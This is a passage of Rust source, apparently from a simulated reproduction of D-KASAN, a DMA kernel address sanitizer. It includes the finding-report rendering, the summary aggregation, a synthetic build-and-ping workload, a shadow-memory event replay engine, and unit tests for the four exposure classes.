    pub page: u64,
    /// Simulated cycle of the triggering event.
    pub at: Cycles,
}

impl DKasanFinding {
    /// Stable deterministic identifier: an FNV-1a hash over
    /// kind + site + page + cycle, rendered as `dk-<16 hex digits>`.
    /// Forensics timelines and fuzz-corpus entries cross-reference
    /// findings by this id instead of array position.
    pub fn id(&self) -> String {
        stable_id(
            "dk",
            &[
                self.kind.metric_name().as_bytes(),
                self.site.as_bytes(),
                &self.page.to_le_bytes(),
                &self.at.to_le_bytes(),
            ],
        )
    }

    /// Renders one Figure-3-style line. The `+0x../0x..` suffix mirrors
    /// kallsyms offset/size annotations; the simulator derives stable
    /// pseudo-offsets from the site name.
    pub fn render(&self, index: usize) -> String {
        let h = self
            .site
            .bytes()
            .fold(0x9e37u64, |a, b| a.wrapping_mul(33) ^ b as u64);
        let off = (h & 0xfff) | 0xf;
        let fsize = ((h >> 12) & 0xff0) + 0x100;
        format!(
            "[{index}] size {} [{}] {}+{:#x}/{:#x}",
            self.size, self.rights, self.site, off, fsize
        )
    }
}

/// Renders a full report in Figure-3 form.
pub fn render_report(findings: &[DKasanFinding]) -> String {
    findings
        .iter()
        .enumerate()
        .map(|(i, f)| f.render(i + 1))
        .collect::<Vec<_>>()
        .join("\n")
}

/// Aggregated view of a finding set: counts per class, per site, and
/// the distinct pages involved — the at-a-glance summary an operator
/// reads before the per-line report.
#[derive(Clone, Debug, Default)]
pub struct Summary {
    /// Findings per report class.
    pub by_kind: std::collections::BTreeMap<String, usize>,
    /// Findings per allocation/access site, sorted descending.
    pub top_sites: Vec<(&'static str, usize)>,
    /// Distinct pages involved in any finding.
    pub pages: usize,
    /// Findings where the device holds write (or bidirectional) rights —
    /// the ones that are attack surface rather than mere leakage.
    pub writable: usize,
    /// Events the bounded flight recorder evicted before D-KASAN could
    /// replay them (0 when tracing was unbounded). Non-zero means the
    /// finding set is a lower bound, not silently complete.
    pub trace_dropped: u64,
}

impl Summary {
    /// Builds a summary over a finding set.
    pub fn of(findings: &[DKasanFinding]) -> Summary {
        let mut by_kind = std::collections::BTreeMap::new();
        let mut sites: std::collections::HashMap<&'static str, usize> = Default::default();
        let mut pages = std::collections::HashSet::new();
        let mut writable = 0;
        for f in findings {
            *by_kind.entry(f.kind.to_string()).or_insert(0) += 1;
            *sites.entry(f.site).or_insert(0) += 1;
            pages.insert(f.page);
            if f.rights.allows_write() {
                writable += 1;
            }
        }
        let mut top_sites: Vec<_> = sites.into_iter().collect();
        top_sites.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
        Summary {
            by_kind,
            top_sites,
            pages: pages.len(),
            writable,
            trace_dropped: 0,
        }
    }

    /// Same as [`Summary::of`], recording how many events the bounded
    /// recorder evicted before replay.
    pub fn of_recorded(findings: &[DKasanFinding], trace_dropped: u64) -> Summary {
        Summary {
            trace_dropped,
            ..Summary::of(findings)
        }
    }

    /// Renders the summary block.
    pub fn render(&self) -> String {
        let mut s = String::from("D-KASAN summary\n");
        for (kind, n) in &self.by_kind {
            s.push_str(&format!("  {kind:<18} {n}\n"));
        }
        s.push_str(&format!("  distinct pages     {}\n", self.pages));
        s.push_str(&format!("  device-writable    {}\n", self.writable));
        if self.trace_dropped > 0 {
            s.push_str(&format!(
                "  trace dropped      {} (recorder evicted; counts are lower bounds)\n",
                self.trace_dropped
            ));
        }
        s.push_str("  top sites:\n");
        for (site, n) in self.top_sites.iter().take(5) {
            s.push_str(&format!("    {site:<28} {n}\n"));
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn line_matches_figure3_shape() {
        let f = DKasanFinding {
            kind: FindingKind::AllocAfterMap,
            size: 512,
            rights: AccessRight::Bidirectional,
            site: "__alloc_skb",
            page: 0xffff_8880_0020_0000,
            at: 100,
        };
        let line = f.render(1);
        assert!(
            line.starts_with("[1] size 512 [READ, WRITE] __alloc_skb+0x"),
            "{line}"
        );
        assert!(line.contains('/'));
    }

    #[test]
    fn write_only_renders_write() {
        let f = DKasanFinding {
            kind: FindingKind::MapAfterAlloc,
            size: 64,
            rights: AccessRight::Write,
            site: "sock_alloc_inode",
            page: 0,
            at: 7,
        };
        assert!(f.render(4).contains("size 64 [WRITE] sock_alloc_inode"));
    }

    #[test]
    fn report_numbers_sequentially() {
        let f = DKasanFinding {
            kind: FindingKind::MultipleMap,
            size: 512,
            rights: AccessRight::Read,
            site: "x",
            page: 0,
            at: 0,
        };
        let r = render_report(&[f.clone(), f]);
        let lines: Vec<&str> = r.lines().collect();
        assert!(lines[0].starts_with("[1]"));
        assert!(lines[1].starts_with("[2]"));
    }

    #[test]
    fn summary_aggregates_kinds_sites_and_pages() {
        let mk = |kind, site: &'static str, page, rights| DKasanFinding {
            kind,
            size: 64,
            rights,
            site,
            page,
            at: 1,
        };
        let findings = vec![
            mk(
                FindingKind::AllocAfterMap,
                "load_elf_phdrs",
                0x1000,
                AccessRight::Write,
            ),
            mk(
                FindingKind::AllocAfterMap,
                "load_elf_phdrs",
                0x2000,
                AccessRight::Read,
            ),
            mk(
                FindingKind::MultipleMap,
                "__alloc_skb",
                0x1000,
                AccessRight::Bidirectional,
            ),
        ];
        let s = Summary::of(&findings);
        assert_eq!(s.by_kind.get("alloc-after-map"), Some(&2));
        assert_eq!(s.by_kind.get("multiple-map"), Some(&1));
        assert_eq!(s.pages, 2);
        assert_eq!(s.writable, 2);
        assert_eq!(s.top_sites[0], ("load_elf_phdrs", 2));
        let text = s.render();
        assert!(text.contains("alloc-after-map"));
        assert!(text.contains("load_elf_phdrs"));
    }

    #[test]
    fn ids_are_stable_and_discriminate() {
        let f = DKasanFinding {
            kind: FindingKind::AllocAfterMap,
            size: 512,
            rights: AccessRight::Bidirectional,
            site: "__alloc_skb",
            page: 0x1000,
            at: 77,
        };
        let id = f.id();
        assert!(id.starts_with("dk-") && id.len() == 19, "{id}");
        assert_eq!(id, f.clone().id(), "pure function of the finding");
        for other in [
            DKasanFinding {
                kind: FindingKind::MultipleMap,
                ..f.clone()
            },
            DKasanFinding {
                site: "kstrdup",
                ..f.clone()
            },
            DKasanFinding {
                page: 0x2000,
                ..f.clone()
            },
            DKasanFinding {
                at: 78,
                ..f.clone()
            },
        ] {
            assert_ne!(f.id(), other.id(), "{other:?}");
        }
    }

    #[test]
    fn summary_renders_recorder_drops_only_when_present() {
        let s = Summary::of_recorded(&[], 12);
        assert!(s.render().contains("trace dropped      12"));
        assert!(!Summary::of(&[]).render().contains("trace dropped"));
    }

    #[test]
    fn pseudo_offsets_are_stable() {
        let f = DKasanFinding {
            kind: FindingKind::AllocAfterMap,
            size: 1,
            rights: AccessRight::Read,
            site: "stable_site",
            page: 0,
            at: 42,
        };
        assert_eq!(f.render(1), f.render(1));
    }
}
