//! D-KASAN — the DMA Kernel Address SANitizer (§4.2).
//!
//! The original tool extends KASAN's shadow memory and compile-time
//! instrumentation to record DMA-map operations alongside allocations,
//! reporting four classes of run-time sub-page exposure:
//!
//! 1. **alloc-after-map** — a kmalloc object was placed on a page that
//!    is currently DMA-mapped;
//! 2. **map-after-alloc** — a page holding live kernel objects became
//!    DMA-mapped;
//! 3. **access-after-map** — the CPU touched a DMA-mapped page;
//! 4. **multiple-map** — one page acquired several live mappings,
//!    possibly with different permissions.
//!
//! In this reproduction the simulators already emit every allocation,
//! free, map, unmap, and access as a [`dma_core::Event`]; D-KASAN
//! replays that stream into shadow state ([`shadow`]) and renders
//! findings in the paper's Figure-3 format ([`report`]). The [`workload`]
//! module reproduces the §4.2 experiment ("cloning a large project and
//! compiling it concurrently with light network traffic"). The
//! [`forensics`] module turns findings into causal incident timelines
//! by walking the `dma_core::provenance` graph backward.

pub mod forensics;
pub mod report;
pub mod shadow;
pub mod workload;

pub use forensics::{investigate, Incident, IncidentStep, WindowVerdict};
pub use report::{observation_id, stable_id, DKasanFinding, FindingKind, Summary};
pub use shadow::{DKasan, DKasanStats};
pub use workload::{run_workload, WorkloadConfig, WorkloadReport};
