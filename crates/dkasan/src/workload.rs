//! The §4.2 experiment workload: "we cloned a large project from a Git
//! repository and compiled it concurrently with light network traffic
//! (i.e., ICMP ping)".
//!
//! The synthetic equivalent drives the same allocation classes through
//! the same kmalloc caches while the NIC driver maps and unmaps RX
//! buffers from those caches:
//!
//! - process execution: `__do_execve_file`, `load_elf_phdrs` (512-byte
//!   objects, as in Figure 3);
//! - VFS/keyring metadata: `assoc_array_insert` (328 bytes), `kstrdup`;
//! - sockets: `sock_alloc_inode` (64 bytes);
//! - skb allocation and zero-copy echo traffic (`__alloc_skb`, mapped
//!   for both directions — the double mapping of Figure 3 line 1).

use crate::report::{render_report, Summary};
use crate::shadow::DKasan;
use crate::FindingKind;
use devsim::testbed::{MemConfigLite, TestbedConfig};
use devsim::Testbed;
use dma_core::{DetRng, FlightRecorder, Kva, Result};
use sim_iommu::IommuConfig;
use sim_net::driver::{AllocPolicy, DriverConfig};
use sim_net::packet::Packet;
use sim_net::stack::StackConfig;

/// Workload parameters.
#[derive(Clone, Copy, Debug)]
pub struct WorkloadConfig {
    /// Rounds of interleaved activity.
    pub rounds: usize,
    /// RNG seed.
    pub seed: u64,
    /// When set, arms [`devsim::build_fault_plan`] with this seed after
    /// boot: the workload then runs under injected allocation/DMA
    /// failures, tolerating them, and D-KASAN must keep producing
    /// accurate structured reports.
    pub fault_seed: Option<u64>,
}

impl Default for WorkloadConfig {
    fn default() -> Self {
        WorkloadConfig {
            rounds: 200,
            seed: 0xd0_ca5a,
            fault_seed: None,
        }
    }
}

/// How many recent events the workload's black box retains for
/// post-hoc forensics (the full stream is consumed by D-KASAN as it
/// goes; the recorder keeps only the tail, counting what it evicted).
pub const BLACK_BOX_CAPACITY: usize = 4096;

/// Result of a workload run.
pub struct WorkloadReport {
    /// The D-KASAN engine with all findings.
    pub dkasan: DKasan,
    /// Packets processed.
    pub packets: u64,
    /// Allocations made by the "build" activity.
    pub allocs: u64,
    /// Operations absorbed as drops under fault injection.
    pub dropped: u64,
    /// Flight recorder holding the most recent events of the run —
    /// enough to reconstruct provenance for late findings without
    /// retaining the whole stream.
    pub black_box: FlightRecorder,
}

impl WorkloadReport {
    /// Figure-3-style text.
    pub fn render(&self) -> String {
        render_report(self.dkasan.findings())
    }

    /// Count of findings of a class.
    pub fn count(&self, kind: FindingKind) -> usize {
        self.dkasan.findings_of(kind).len()
    }

    /// Aggregated summary, surfacing how many events fell out of the
    /// black box before anyone could investigate them.
    pub fn summary(&self) -> Summary {
        Summary::of_recorded(self.dkasan.findings(), self.black_box.dropped())
    }
}

/// The allocation sites of the simulated `git clone && make` activity,
/// with the object sizes Figure 3 reports.
const BUILD_SITES: &[(&str, usize)] = &[
    ("load_elf_phdrs", 512),
    ("__do_execve_file.isra.0", 512),
    ("sock_alloc_inode", 64),
    ("assoc_array_insert", 328),
    ("kstrdup", 32),
    ("vfs_read", 256),
    ("d_alloc", 192),
    ("getname_flags", 1024),
];

/// Runs the workload on a fresh traced machine and replays the event
/// stream through D-KASAN.
pub fn run_workload(cfg: WorkloadConfig) -> Result<WorkloadReport> {
    // kmalloc-backed RX buffers: I/O pages come from the same caches as
    // everything else — the point of the experiment.
    let mut tb = Testbed::new_traced(TestbedConfig {
        device: Default::default(),
        mem: MemConfigLite {
            kaslr_seed: Some(cfg.seed),
            ..Default::default()
        },
        iommu: IommuConfig::default(),
        driver: DriverConfig {
            alloc: AllocPolicy::Kmalloc,
            rx_buf_size: 2048,
            map_ctrl_block: true,
            ..Default::default()
        },
        stack: StackConfig {
            echo_service: true,
            ..Default::default()
        },
        boot_noise_seed: Some(cfg.seed),
    })?;
    tb.ctx.trace.record_cpu_access = true;
    if let Some(fault_seed) = cfg.fault_seed {
        tb.ctx.faults = devsim::build_fault_plan(fault_seed);
    }

    let mut rng = DetRng::new(cfg.seed);
    let mut dkasan = DKasan::new();
    let mut black_box = FlightRecorder::new(BLACK_BOX_CAPACITY);
    let mut live: Vec<Kva> = Vec::new();
    let mut packets = 0u64;
    let mut allocs = 0u64;
    let mut dropped = 0u64;

    // Resource-pressure and aborted-DMA errors are expected under an
    // armed fault plan; anything else still fails the run.
    let tolerated = |e: &dma_core::DmaError| {
        e.is_transient()
            || matches!(
                e,
                dma_core::DmaError::IommuFault { .. } | dma_core::DmaError::IommuPermission { .. }
            )
    };

    for round in 0..cfg.rounds {
        // "Compilation": allocate a few objects, free some older ones.
        for _ in 0..(2 + rng.below(4)) {
            let (site, size) = BUILD_SITES[rng.below(BUILD_SITES.len() as u64) as usize];
            match tb.mem.kmalloc(&mut tb.ctx, size, site) {
                Ok(kva) => {
                    allocs += 1;
                    live.push(kva);
                }
                Err(e) if tolerated(&e) => dropped += 1,
                Err(e) => return Err(e),
            }
        }
        while live.len() > 64 {
            let idx = rng.below(live.len() as u64) as usize;
            let kva = live.swap_remove(idx);
            tb.mem.kfree(&mut tb.ctx, kva)?;
        }

        // "Ping": a packet arrives and is echoed (RX map + TX map of the
        // same payload page → double mapping, Figure 3 line 1).
        let p = Packet::udp(50 + (round % 3) as u32, 1, vec![round as u8; 56]);
        match tb.deliver_packet(&p) {
            Ok(()) => packets += 1,
            Err(e) if tolerated(&e) => {
                dropped += 1;
                // A starved RX ring never completes, so nothing would
                // trigger the poll-path refill; kick it directly.
                tb.driver
                    .rx_refill(&mut tb.ctx, &mut tb.mem, &mut tb.iommu)?;
            }
            Err(e) => return Err(e),
        }
        if round % 4 == 3 {
            match tb.complete_all_tx() {
                Ok(_) => {}
                Err(e) if tolerated(&e) => dropped += 1,
                Err(e) => return Err(e),
            }
        }

        // Stream events into the shadow as they happen; the black box
        // keeps the recent tail for forensics.
        let events = tb.ctx.trace.drain();
        dkasan.process(&events);
        for ev in events {
            black_box.push(ev);
        }
    }
    let events = tb.ctx.trace.drain();
    dkasan.process(&events);
    for ev in events {
        black_box.push(ev);
    }

    Ok(WorkloadReport {
        dkasan,
        packets,
        allocs,
        dropped,
        black_box,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn workload_reproduces_figure3_findings() {
        let report = run_workload(WorkloadConfig::default()).unwrap();
        assert!(report.packets >= 200);

        // All four §4.2 report classes fire.
        assert!(
            report.count(FindingKind::AllocAfterMap) > 0,
            "alloc-after-map"
        );
        assert!(
            report.count(FindingKind::MapAfterAlloc) > 0,
            "map-after-alloc"
        );
        assert!(
            report.count(FindingKind::AccessAfterMap) > 0,
            "access-after-map"
        );
        assert!(report.count(FindingKind::MultipleMap) > 0, "multiple-map");

        // Figure-3 sites appear among the exposed objects.
        let sites: Vec<&str> = report.dkasan.findings().iter().map(|f| f.site).collect();
        assert!(sites.contains(&"load_elf_phdrs"), "{sites:?}");
        assert!(sites.contains(&"sock_alloc_inode"), "{sites:?}");

        // The rendering looks like Figure 3.
        let text = report.render();
        assert!(
            text.lines().next().unwrap().starts_with("[1] size "),
            "{text}"
        );
    }

    #[test]
    fn black_box_retains_the_tail_and_summary_surfaces_drops() {
        let report = run_workload(WorkloadConfig::default()).unwrap();
        assert!(!report.black_box.is_empty());
        assert!(
            report.black_box.dropped() > 0,
            "200 rounds emit more than the black box retains"
        );
        let summary = report.summary();
        assert_eq!(summary.trace_dropped, report.black_box.dropped());
        assert!(summary.render().contains("trace dropped"));
        // The retained tail is chronological.
        let tail = report.black_box.snapshot();
        assert!(tail.windows(2).all(|w| w[0].at() <= w[1].at()));
    }

    #[test]
    fn workload_is_deterministic() {
        let a = run_workload(WorkloadConfig {
            rounds: 50,
            seed: 7,
            fault_seed: None,
        })
        .unwrap();
        let b = run_workload(WorkloadConfig {
            rounds: 50,
            seed: 7,
            fault_seed: None,
        })
        .unwrap();
        assert_eq!(a.render(), b.render());
        assert_eq!(a.allocs, b.allocs);
    }

    #[test]
    fn different_seeds_differ() {
        let a = run_workload(WorkloadConfig {
            rounds: 50,
            seed: 1,
            fault_seed: None,
        })
        .unwrap();
        let b = run_workload(WorkloadConfig {
            rounds: 50,
            seed: 2,
            fault_seed: None,
        })
        .unwrap();
        assert_ne!(a.allocs, b.allocs);
    }

    #[test]
    fn fault_runs_emit_structured_reports_not_panics() {
        // Regression for the fault-injection + D-KASAN interaction: a
        // workload run under an armed fault plan must complete, census
        // the injections with accurate site tags, and keep reporting
        // exposure findings whose sites are the real allocation sites.
        let cfg = WorkloadConfig {
            rounds: 150,
            seed: 11,
            fault_seed: Some(11),
        };
        let report = run_workload(cfg).unwrap();
        let faults = report.dkasan.injected_faults();
        let injected: u64 = faults.values().sum();
        assert!(injected > 0, "fault plan never fired");
        assert!(
            faults.keys().all(|s| s.contains('.')),
            "fault sites must be <layer>.<operation> tags: {faults:?}"
        );
        // The detector still works under faults — with real sites.
        assert!(
            report.count(FindingKind::AllocAfterMap) > 0
                || report.count(FindingKind::MapAfterAlloc) > 0,
            "no exposure findings under faults"
        );
        assert!(report.dkasan.findings().iter().all(|f| !f.site.is_empty()
            && !f.site.contains('.')
            || BUILD_SITES.iter().any(|(s, _)| *s == f.site)
            || f.site.starts_with("nic_")
            || f.site.starts_with("__")));
        // And fault runs replay deterministically end to end.
        let again = run_workload(cfg).unwrap();
        assert_eq!(report.render(), again.render());
        assert_eq!(report.dropped, again.dropped);
        assert_eq!(faults, again.dkasan.injected_faults());
    }
}
