//! Shadow state: the event-stream replay engine.
//!
//! KASAN proper uses shadow bytes filled in by compiler instrumentation;
//! here the simulators emit explicit events, and the shadow is rebuilt
//! by replaying them in order. The state tracked per page mirrors what
//! D-KASAN records: live objects (with allocation site and size) and
//! live DMA mappings (with device, rights, and mapping site).

use crate::report::{DKasanFinding, FindingKind};
use dma_core::metrics::{Histogram, Metrics};
use dma_core::trace::DeviceId;
use dma_core::vuln::AccessRight;
use dma_core::{Event, Kva, PAGE_SIZE};
use std::collections::HashMap;

/// Replay-cost counters: what D-KASAN's shadow maintenance costs, in
/// shadow-entry touches. The replay engine has no `SimCtx`, so these
/// accumulate internally and are published into a [`Metrics`] registry
/// afterwards via [`DKasan::publish_metrics`].
#[derive(Clone, Debug, Default)]
pub struct DKasanStats {
    /// Events replayed.
    pub events: u64,
    /// Page-shadow entries mutated across all replayed events.
    pub shadow_updates: u64,
    /// Shadow entries mutated per event (the per-event cost profile).
    pub touches_per_event: Histogram,
}

#[derive(Clone, Debug)]
struct LiveObject {
    kva: Kva,
    size: usize,
    site: &'static str,
}

#[derive(Clone, Debug)]
struct LiveMapping {
    device: DeviceId,
    iova: u64,
    right: AccessRight,
    site: &'static str,
}

#[derive(Clone, Debug, Default)]
struct PageShadow {
    objects: Vec<LiveObject>,
    mappings: Vec<LiveMapping>,
}

/// The D-KASAN replay engine.
///
/// # Examples
///
/// ```
/// use dkasan::{DKasan, FindingKind};
/// use dma_core::{Event, Iova, Kva, vuln::DmaDirection};
///
/// let mut dk = DKasan::new();
/// dk.process(&[
///     Event::DmaMap { at: 0, device: 1, iova: Iova(0xf0001000),
///                     kva: Kva(0xffff_8880_0010_0000), len: 2048,
///                     dir: DmaDirection::FromDevice, site: "nic_rx_map" },
///     Event::Alloc { at: 1, kva: Kva(0xffff_8880_0010_0800), size: 512,
///                    site: "load_elf_phdrs", cache: "kmalloc-512" },
/// ]);
/// assert_eq!(dk.findings_of(FindingKind::AllocAfterMap).len(), 1);
/// ```
#[derive(Debug, Default)]
pub struct DKasan {
    pages: HashMap<u64, PageShadow>,
    /// Object index for O(1) free handling: KVA → (page keys, size).
    objects: HashMap<u64, (Vec<u64>, usize)>,
    /// Mapping index: (device, iova page) → page keys.
    mappings: HashMap<(DeviceId, u64), Vec<u64>>,
    findings: Vec<DKasanFinding>,
    /// Suppress duplicate (kind, site) reports, like the real tool's
    /// once-per-site reporting.
    seen: std::collections::HashSet<(FindingKind, &'static str)>,
    /// Report every occurrence instead of once per (kind, site).
    pub report_all: bool,
    /// Injected-fault census: site tag → count. Fault-injection runs
    /// replay streams in which some Alloc/DmaMap events are *missing*
    /// (the operation failed); tracking the injections keeps the report
    /// explainable instead of silently dropping the events.
    faults: std::collections::BTreeMap<&'static str, u64>,
    /// Replay-cost counters (see [`DKasanStats`]).
    stats: DKasanStats,
}

fn pages_of(kva: Kva, len: usize) -> Vec<u64> {
    let first = kva.page_align_down().raw();
    let last = Kva(kva.raw() + len.max(1) as u64 - 1)
        .page_align_down()
        .raw();
    (0..=(last - first) / PAGE_SIZE as u64)
        .map(|i| first + i * PAGE_SIZE as u64)
        .collect()
}

impl DKasan {
    /// Creates an empty shadow.
    pub fn new() -> Self {
        DKasan::default()
    }

    /// Replays a batch of events.
    pub fn process(&mut self, events: &[Event]) {
        for ev in events {
            self.step(ev);
        }
    }

    /// Collected findings so far.
    pub fn findings(&self) -> &[DKasanFinding] {
        &self.findings
    }

    /// Findings of one kind.
    pub fn findings_of(&self, kind: FindingKind) -> Vec<&DKasanFinding> {
        self.findings.iter().filter(|f| f.kind == kind).collect()
    }

    fn emit(&mut self, f: DKasanFinding) {
        if self.report_all || self.seen.insert((f.kind, f.site)) {
            self.findings.push(f);
        }
    }

    fn step(&mut self, ev: &Event) {
        self.stats.events += 1;
        let before = self.stats.shadow_updates;
        self.dispatch(ev);
        self.stats
            .touches_per_event
            .observe(self.stats.shadow_updates - before);
    }

    fn dispatch(&mut self, ev: &Event) {
        match ev {
            Event::Alloc {
                at,
                kva,
                size,
                site,
                ..
            } => self.on_alloc(*at, *kva, *size, site),
            Event::Free { kva, .. } => self.on_free(*kva),
            Event::DmaMap {
                at,
                device,
                iova,
                kva,
                len,
                dir,
                site,
            } => self.on_map(
                *at,
                *device,
                iova.raw(),
                *kva,
                *len,
                dir.access_right(),
                site,
            ),
            Event::DmaUnmap { device, iova, .. } => self.on_unmap(*device, iova.raw()),
            Event::CpuAccess {
                at,
                kva,
                len,
                write,
                site,
            } => self.on_cpu_access(*at, *kva, *len, *write, site),
            // Injected faults mean the corresponding Alloc/DmaMap never
            // happened — the shadow must NOT invent state for them, only
            // record the injection so reports stay explainable.
            Event::FaultInjected { site, .. } => {
                *self.faults.entry(site).or_insert(0) += 1;
            }
            _ => {}
        }
    }

    /// Injected faults seen in the replayed stream, per site tag, in
    /// deterministic (sorted) order.
    pub fn injected_faults(&self) -> &std::collections::BTreeMap<&'static str, u64> {
        &self.faults
    }

    fn on_alloc(&mut self, at: u64, kva: Kva, size: usize, site: &'static str) {
        let keys = pages_of(kva, size);
        // Class 1: alloc-after-map.
        let mapped_rights: Vec<AccessRight> = keys
            .iter()
            .filter_map(|k| self.pages.get(k))
            .flat_map(|p| p.mappings.iter().map(|m| m.right))
            .collect();
        if let Some(merged) = merge_rights(&mapped_rights) {
            self.emit(DKasanFinding {
                kind: FindingKind::AllocAfterMap,
                size,
                rights: merged,
                site,
                page: kva.page_align_down().raw(),
                at,
            });
        }
        self.stats.shadow_updates += keys.len() as u64;
        for k in &keys {
            self.pages
                .entry(*k)
                .or_default()
                .objects
                .push(LiveObject { kva, size, site });
        }
        self.objects.insert(kva.raw(), (keys, size));
    }

    fn on_free(&mut self, kva: Kva) {
        if let Some((keys, _)) = self.objects.remove(&kva.raw()) {
            self.stats.shadow_updates += keys.len() as u64;
            for k in keys {
                if let Some(p) = self.pages.get_mut(&k) {
                    p.objects.retain(|o| o.kva != kva);
                }
            }
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn on_map(
        &mut self,
        at: u64,
        device: DeviceId,
        iova: u64,
        kva: Kva,
        len: usize,
        right: AccessRight,
        site: &'static str,
    ) {
        let keys = pages_of(kva, len);
        self.stats.shadow_updates += keys.len() as u64;
        for k in &keys {
            let page = self.pages.entry(*k).or_default();
            // Class 4: multiple-map (possibly different permissions).
            let prev = merge_rights(&page.mappings.iter().map(|m| m.right).collect::<Vec<_>>());
            // Class 2: map-after-alloc — report each live co-located
            // object whose page just became device-visible.
            let co_located: Vec<(usize, &'static str)> = page
                .objects
                .iter()
                .filter(|o| o.kva != kva)
                .map(|o| (o.size, o.site))
                .collect();
            page.mappings.push(LiveMapping {
                device,
                iova,
                right,
                site,
            });
            if let Some(prev) = prev {
                self.emit(DKasanFinding {
                    kind: FindingKind::MultipleMap,
                    size: len,
                    rights: prev.union(right),
                    site,
                    page: *k,
                    at,
                });
            }
            for (osize, osite) in co_located {
                self.emit(DKasanFinding {
                    kind: FindingKind::MapAfterAlloc,
                    size: osize,
                    rights: right,
                    site: osite,
                    page: *k,
                    at,
                });
            }
        }
        self.mappings
            .insert((device, iova & !(PAGE_SIZE as u64 - 1)), keys);
    }

    fn on_unmap(&mut self, device: DeviceId, iova: u64) {
        if let Some(keys) = self
            .mappings
            .remove(&(device, iova & !(PAGE_SIZE as u64 - 1)))
        {
            self.stats.shadow_updates += keys.len() as u64;
            for k in keys {
                if let Some(p) = self.pages.get_mut(&k) {
                    if let Some(pos) = p
                        .mappings
                        .iter()
                        .position(|m| m.device == device && m.iova == iova)
                    {
                        p.mappings.swap_remove(pos);
                    }
                }
            }
        }
    }

    fn on_cpu_access(&mut self, at: u64, kva: Kva, len: usize, _write: bool, site: &'static str) {
        // Class 3: access-after-map.
        let rights: Vec<AccessRight> = pages_of(kva, len)
            .iter()
            .filter_map(|k| self.pages.get(k))
            .flat_map(|p| p.mappings.iter().map(|m| m.right))
            .collect();
        if let Some(merged) = merge_rights(&rights) {
            self.emit(DKasanFinding {
                kind: FindingKind::AccessAfterMap,
                size: len,
                rights: merged,
                site,
                page: kva.page_align_down().raw(),
                at,
            });
        }
    }

    /// Replay-cost counters accumulated so far.
    pub fn stats(&self) -> &DKasanStats {
        &self.stats
    }

    /// Publishes the replay cost and findings census into `m` under the
    /// `dkasan.*` metric names (additive, so repeated publishes from
    /// separate replay engines aggregate).
    pub fn publish_metrics(&self, m: &mut Metrics) {
        m.add("dkasan.events", self.stats.events);
        m.add("dkasan.shadow.updates", self.stats.shadow_updates);
        m.merge_histogram(
            "dkasan.shadow.touches_per_event",
            &self.stats.touches_per_event,
        );
        m.gauge_set("dkasan.shadow.pages", self.pages.len() as u64);
        m.gauge_set("dkasan.exposed_pages", self.exposed_pages() as u64);
        m.add("dkasan.findings.total", self.findings.len() as u64);
        for kind in FindingKind::ALL {
            let n = self.findings.iter().filter(|f| f.kind == kind).count();
            m.add(kind.metric_name(), n as u64);
        }
    }

    /// The mapping sites currently covering a page (diagnostics).
    pub fn mapping_sites(&self, page: u64) -> Vec<&'static str> {
        self.pages
            .get(&page)
            .map(|p| p.mappings.iter().map(|m| m.site).collect())
            .unwrap_or_default()
    }

    /// Number of pages currently carrying both live objects and live
    /// mappings (the standing exposure surface).
    pub fn exposed_pages(&self) -> usize {
        self.pages
            .values()
            .filter(|p| !p.objects.is_empty() && !p.mappings.is_empty())
            .count()
    }
}

fn merge_rights(rights: &[AccessRight]) -> Option<AccessRight> {
    rights.iter().copied().reduce(AccessRight::union)
}

#[cfg(test)]
mod tests {
    use super::*;
    use dma_core::vuln::DmaDirection;
    use dma_core::Iova;

    fn alloc(at: u64, kva: u64, size: usize, site: &'static str) -> Event {
        Event::Alloc {
            at,
            kva: Kva(kva),
            size,
            site,
            cache: "kmalloc",
        }
    }

    fn map(at: u64, kva: u64, len: usize, dir: DmaDirection, site: &'static str) -> Event {
        Event::DmaMap {
            at,
            device: 1,
            iova: Iova(0xf000_0000 + (kva & 0xfff)),
            kva: Kva(kva),
            len,
            dir,
            site,
        }
    }

    const PAGE: u64 = 0xffff_8880_0020_0000;

    #[test]
    fn alloc_after_map_detected() {
        let mut dk = DKasan::new();
        dk.process(&[
            map(0, PAGE + 0x100, 256, DmaDirection::FromDevice, "nic_rx_map"),
            alloc(1, PAGE + 0x800, 512, "load_elf_phdrs"),
        ]);
        let f = dk.findings_of(FindingKind::AllocAfterMap);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].size, 512);
        assert_eq!(f[0].site, "load_elf_phdrs");
        assert_eq!(f[0].rights, AccessRight::Write);
        assert_eq!(f[0].at, 1, "finding stamped with the trigger cycle");
        assert!(f[0].id().starts_with("dk-"));
    }

    #[test]
    fn map_after_alloc_detected_per_object() {
        let mut dk = DKasan::new();
        dk.process(&[
            alloc(0, PAGE, 64, "sock_alloc_inode"),
            alloc(1, PAGE + 0x40, 328, "assoc_array_insert"),
            map(
                2,
                PAGE + 0x800,
                512,
                DmaDirection::Bidirectional,
                "nic_cmd_map",
            ),
        ]);
        let f = dk.findings_of(FindingKind::MapAfterAlloc);
        assert_eq!(f.len(), 2);
        let sites: Vec<_> = f.iter().map(|x| x.site).collect();
        assert!(sites.contains(&"sock_alloc_inode"));
        assert!(sites.contains(&"assoc_array_insert"));
        assert!(f.iter().all(|x| x.rights == AccessRight::Bidirectional));
    }

    #[test]
    fn unmap_clears_exposure() {
        let mut dk = DKasan::new();
        dk.process(&[map(0, PAGE, 256, DmaDirection::FromDevice, "m")]);
        dk.process(&[Event::DmaUnmap {
            at: 1,
            device: 1,
            iova: Iova(0xf000_0000),
            len: 256,
        }]);
        dk.process(&[alloc(2, PAGE + 0x800, 512, "late_alloc")]);
        assert!(dk.findings_of(FindingKind::AllocAfterMap).is_empty());
    }

    #[test]
    fn multiple_map_merges_rights() {
        // §4.2 / Figure 3 line 1: a buffer mapped twice — once for read,
        // once for write — shows as [READ, WRITE].
        let mut dk = DKasan::new();
        dk.process(&[
            map(0, PAGE, 512, DmaDirection::FromDevice, "__alloc_skb"),
            map(1, PAGE + 0x200, 512, DmaDirection::ToDevice, "__alloc_skb"),
        ]);
        let f = dk.findings_of(FindingKind::MultipleMap);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].rights, AccessRight::Bidirectional);
    }

    #[test]
    fn access_after_map_detected() {
        let mut dk = DKasan::new();
        dk.process(&[
            map(0, PAGE, 2048, DmaDirection::FromDevice, "nic_rx_map"),
            Event::CpuAccess {
                at: 1,
